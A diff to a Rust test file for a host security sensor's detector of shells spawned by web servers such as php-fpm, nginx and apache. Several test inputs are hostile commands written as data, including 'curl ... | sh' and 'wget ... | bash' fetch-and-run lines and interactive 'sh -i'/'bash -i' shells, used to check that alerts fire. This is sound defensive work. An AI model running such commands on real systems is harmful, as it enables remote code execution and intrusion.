@@ -1,64 +1,7 @@
-//! What is found, and what is not, through the whole core.
+//! server-shell: what runs below a server, and what of that is normal.
 
-use crate::alert::Alert;
-use crate::catalogue::Catalogue;
-use crate::event::{Event, Exec};
-use crate::host::Host;
-use crate::pipeline::{Core, Request, Settings};
-use crate::testing::*;
-use sensor_common::key::ProcessKey;
-use sensor_common::record::Kind;
-use std::sync::Arc;
-
-const INIT: ProcessKey = key(1, 10);
-const MASTER: ProcessKey = key(100, 100);
-const WORKER: ProcessKey = key(101, 200);
-const SHELL: ProcessKey = key(102, 3000);
-const COMMAND: ProcessKey = key(103, 3001);
-
-fn core() -> Core {
-    let (catalogue, problems) = Catalogue::embedded();
-    assert_eq!(problems, []);
-    let users = [(33, "www-data".to_owned())].into();
-    Core::new(Settings {
-        catalogue: Arc::new(catalogue),
-        exceptions: Vec::new(),
-        host: Host { name: "host".into(), id: "id".into(), boot_time_unix_ns: 1_700_000_000_000_000_000, users },
-        max_processes: 10_000,
-    })
-}
-
-fn run(core: &mut Core, events: impl IntoIterator<Item = Event>) -> Vec<Alert> {
-    events.into_iter().flat_map(|event| core.apply(&event).alerts).collect()
-}
-
-/// A server that runs: its master, and one worker that was forked without an exec.
-fn server(executable: &str, command: &str) -> Core {
-    let mut core = core();
-    let alerts = run(
-        &mut core,
-        [
-            found(1000, INIT, ProcessKey::NONE, program("/sbin/init", "init")),
-            found(1000, MASTER, INIT, program(executable, command)),
-            fork(1001, MASTER, WORKER),
-        ],
-    );
-    assert!(alerts.is_empty());
-    core
-}
-
-fn php_fpm() -> Core {
-    server("/usr/sbin/php-fpm8.2", "php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)")
-}
-
-/// The worker starts a program in a child of its own.
-fn spawn(exec_image: Exec) -> Vec<Event> {
-    vec![fork(3000, WORKER, SHELL), exec(3001, SHELL, exec_image)]
-}
-
-fn tgids(alert: &Alert) -> Vec<u32> {
-    alert.lineage.iter().map(|program| program.key.tgid).collect()
-}
+use super::*;
+use crate::pipeline::Request;
 
 #[test]
 fn a_web_shells_command_is_one_alert_with_the_whole_lineage() {
@@ -99,9 +42,9 @@ fn a_shell_that_starts_nothing_is_reported_when_it_ends_or_has_waited_long_enoug
     assert_eq!(run(&mut ended, [exit(3010, SHELL)]).len(), 1);
 
     let mut waited = php_fpm();
-    events.push(tick(3040));
+    events.push(tick(3010));
     assert!(run(&mut waited, events).is_empty());
-    assert_eq!(run(&mut waited, [tick(3052)]).len(), 1);
+    assert_eq!(run(&mut waited, [tick(3017)]).len(), 1);
     assert_eq!(run(&mut waited, [exit(3060, SHELL)]).len(), 0);
 }
 
@@ -216,77 +159,126 @@ fn the_kernel_is_told_of_a_server_and_of_children_it_missed() {
     assert!(requests.contains(&Request::SetLineage { process: SHELL, parent: WORKER, lineage: 1 }), "{requests:?}");
 }
 
-fn watched() -> Core {
-    let mut core = php_fpm();
-    run(&mut core, [watch(2000, MASTER, 5, "php-fpm", "script_docroot", "/var/www")]);
-    core
-}
-
 #[test]
-fn a_script_that_a_worker_moves_into_the_docroot_is_reported_once() {
-    let mut core = watched();
-    let events = [
-        file(3000, WORKER, Kind::Rename, "/var/www/html/a.php", 5),
-        file(3001, WORKER, Kind::Open, "/var/www/html/a.php", 5),
-        file(3002, WORKER, Kind::Open, "/var/www/html/a.jpg", 5),
-    ];
-    let alerts = run(&mut core, events);
-    assert_eq!(alerts.len(), 1);
-    assert_eq!((alerts[0].detector.id(), alerts[0].severity.name()), ("component-write", "high"));
-    assert_eq!(alerts[0].file.as_ref().unwrap().path, "/var/www/html/a.php");
-}
-
-#[test]
-fn a_package_manager_installs_quietly_but_not_out_of_a_web_shell() {
-    let dpkg = || program("/usr/bin/dpkg", "dpkg --unpack x.deb");
-    let write = |at| file(at, COMMAND, Kind::Rename, "/var/www/html/a.php", 5);
-    let mut core = watched();
-    let by_admin = [
-        fork(3000, INIT, SHELL),
-        exec(3001, SHELL, program("/usr/bin/apt-get", "apt-get install x")),
-        fork(3002, SHELL, COMMAND),
-        exec(3003, COMMAND, dpkg()),
-        write(3004),
-    ];
-    assert!(run(&mut core, by_admin).is_empty());
-    let mut core = watched();
-    let mut by_server = spawn(program("/usr/bin/apt-get", "apt-get install x"));
-    by_server.extend([fork(3002, SHELL, COMMAND), exec(3003, COMMAND, dpkg()), write(3004)]);
-    let alerts = run(&mut core, by_server);
-    assert!(alerts.iter().any(|alert| alert.detector.id() == "component-write"), "{alerts:?}");
-}
-
-#[test]
-fn an_unknown_writer_outside_lineages_is_medium() {
-    let mut core = watched();
-    let events = [
-        fork(3000, INIT, SHELL),
-        exec(3001, SHELL, program("/usr/bin/cp", "cp a.php /var/www/html/")),
-        file(3002, SHELL, Kind::Open, "/var/www/html/a.php", 5),
-    ];
-    let alerts = run(&mut core, events);
-    assert_eq!(alerts.len(), 1);
-    assert_eq!(alerts[0].severity.name(), "medium");
-}
-
-#[test]
-fn a_file_event_that_knows_only_the_pid_finds_the_process_even_after_its_end() {
-    let mut core = watched();
-    let mut event = file(3005, WORKER, Kind::Open, "/var/www/html/a.php", 5);
-    event.process = ProcessKey::new(101, 0);
-    let alerts = run(&mut core, [exit(3004, WORKER), event]);
-    assert_eq!(alerts.len(), 1);
-    assert_eq!(alerts[0].process.key, WORKER);
-}
-
-#[test]
-fn a_file_reached_through_a_bind_mount_is_named_by_the_watched_directory() {
-    let mut core = watched();
-    let mut event = file(3000, WORKER, Kind::Open, "/mnt/elsewhere/html/a.php", 5);
-    if let crate::event::Body::File(file) = &mut event.body {
-        file.watch_depth = 2;
+fn what_somebody_feeds_or_fetches_is_critical_at_once() {
+    for (image, said) in [
+        (program("/usr/bin/dash", "sh -i"), "somebody feeds it"),
+        (program("/usr/bin/bash", "bash"), "somebody feeds it"),
+        (shell("curl -s http://192.0.2.1/x | sh"), "fetches something and has a shell run it"),
+        (shell("wget -qO- http://192.0.2.1/x|bash"), "fetches something and has a shell run it"),
+    ] {
+        let (mut scene, worker) = Scene::php();
+        scene.start(worker, image);
+        assert_eq!(scene.told(), [("server-shell", "critical")]);
+        assert!(scene.why("server-shell").contains(said), "{}", scene.why("server-shell"));
     }
-    let alerts = run(&mut core, [event]);
-    assert_eq!(alerts[0].file.as_ref().unwrap().path, "/var/www/html/a.php");
-    assert!(alerts[0].why.iter().any(|why| why.contains("/mnt/elsewhere")), "{:?}", alerts[0].why);
+}
+
+#[test]
+fn fetching_without_running_is_no_worse_than_another_shell() {
+    let (mut scene, worker) = Scene::php();
+    scene.start(worker, shell("curl -s http://192.0.2.1/health"));
+    assert_eq!(scene.told(), [("server-shell", "high")]);
+}
+
+#[test]
+fn an_application_runs_its_scripts_and_gives_interpreters_no_code() {
+    for (executable, command, expected) in [
+        ("/usr/bin/python3.11", "python3 /srv/app/report.py --day 3", None),
+        ("/usr/bin/node", "node /srv/app/worker.js", None),
+        ("/usr/bin/perl", "perl /srv/app/convert.pl", None),
+        ("/usr/bin/python3.11", "python3 -c import_os", Some("high")),
+        ("/usr/bin/perl", "perl -e exec", Some("high")),
+        ("/usr/bin/node", "node -e x", Some("high")),
+        ("/usr/bin/python3.11", "python3 /tmp/.x/s.py", Some("high")),
+        ("/usr/bin/python3.11", "python3", Some("high")),
+        // A shell's script is told, whatever it is.
+        ("/usr/bin/dash", "sh /srv/app/run.sh", Some("high")),
+    ] {
+        let (mut scene, worker) = Scene::php();
+        scene.start(worker, program(executable, command));
+        assert_eq!(scene.told_by("server-shell"), Vec::from_iter(expected), "{command}");
+    }
+}
+
+#[test]
+fn what_lies_where_nothing_is_installed_is_told_without_being_a_known_tool() {
+    for (executable, told) in [
+        ("/tmp/x", true),
+        ("/dev/shm/x", true),
+        ("/var/tmp/a/x", true),
+        ("/srv/app/.cache/x", true),
+        ("/srv/app/bin/x", false),
+    ] {
+        let (mut scene, worker) = Scene::php();
+        scene.start(worker, program(executable, "x"));
+        assert_eq!(!scene.told_by("server-shell").is_empty(), told, "{executable}");
+    }
+}
+
+#[test]
+fn as_root_it_is_worse() {
+    let (mut scene, worker) = Scene::php();
+    scene.start(worker, Exec { uid: 0, euid: 0, ..program("/usr/bin/id", "id") });
+    assert_eq!(scene.told_by("server-shell"), ["critical"]);
+}
+
+#[test]
+fn where_starting_programs_is_its_trade_only_fetching_and_running_is_told() {
+    for (command, expected) in
+        [("uptime", None), ("curl http://192.0.2.1/x -o x", None), ("curl http://192.0.2.1/x | sh", Some("high"))]
+    {
+        let (mut scene, runner) = Scene::of("/usr/bin/gitlab-runner", "gitlab-runner run");
+        scene.start(runner, shell(command));
+        assert_eq!(scene.told_by("server-shell"), Vec::from_iter(expected), "{command}");
+    }
+}
+
+#[test]
+fn one_story_is_told_once_and_another_once_more() {
+    let (mut scene, worker) = Scene::php();
+    let shell_of_one = scene.start(worker, shell("id; uname -a; ls"));
+    for tool in ["/usr/bin/id", "/usr/bin/uname", "/usr/bin/ls"] {
+        let child = scene.start(shell_of_one, program(tool, "x"));
+        scene.ends(child);
+    }
+    assert_eq!(scene.told().len(), 1);
+    scene.start(worker, program("/usr/bin/whoami", "whoami"));
+    assert_eq!(scene.told().len(), 2);
+    assert_eq!(scene.alerts[0].incident.id, scene.alerts[1].incident.id);
+}
+
+#[test]
+fn what_becomes_worse_is_told_again() {
+    let (mut scene, worker) = Scene::php();
+    let story = scene.start(worker, shell("ls; curl http://192.0.2.1/x | sh -s"));
+    scene.start(story, program("/usr/bin/dash", "sh -s"));
+    assert_eq!(scene.told_by("server-shell"), ["critical"]);
+    let (mut scene, worker) = Scene::php();
+    let story = scene.start(worker, shell("/srv/app/run"));
+    scene.start(story, program("/usr/bin/id", "id"));
+    scene.start(story, program("/usr/bin/bash", "bash -i"));
+    assert_eq!(scene.told_by("server-shell"), ["high", "critical"]);
+}
+
+#[test]
+fn a_shell_of_a_server_that_was_not_there_before_is_told_too() {
+    let mut scene = Scene::new();
+    let master = scene.start(INIT, program("/usr/sbin/nginx", "nginx -g daemon off;"));
+    let worker = scene.fork(master, 33);
+    scene.start(worker, program("/usr/bin/bash", "bash -c id"));
+    assert_eq!(scene.told(), [("server-shell", "critical")]);
+}
+
+#[test]
+fn a_script_of_a_directory_from_which_programs_are_started_is_a_component_and_what_it_starts_is_not() {
+    let script = |path: &str| Exec { script: Some(path.into()), ..program("/usr/bin/bash", &format!("bash {path}")) };
+    let (mut scene, worker) = Scene::of("/usr/sbin/apache2", "apache2");
+    scene.watch(worker, "apache-httpd", "exec_script", "/srv/site/cgi");
+    let cgi = scene.start(worker, script("/srv/site/cgi/status.sh"));
+    assert_eq!(scene.told(), []);
+    scene.start(cgi, program("/usr/bin/curl", "curl http://192.0.2.1/x"));
+    assert_eq!(scene.told(), [("server-shell", "high")]);
+    scene.start(worker, script("/srv/site/cgi-other/status.sh"));
+    assert_eq!(scene.told().len(), 2, "beside it");
 }
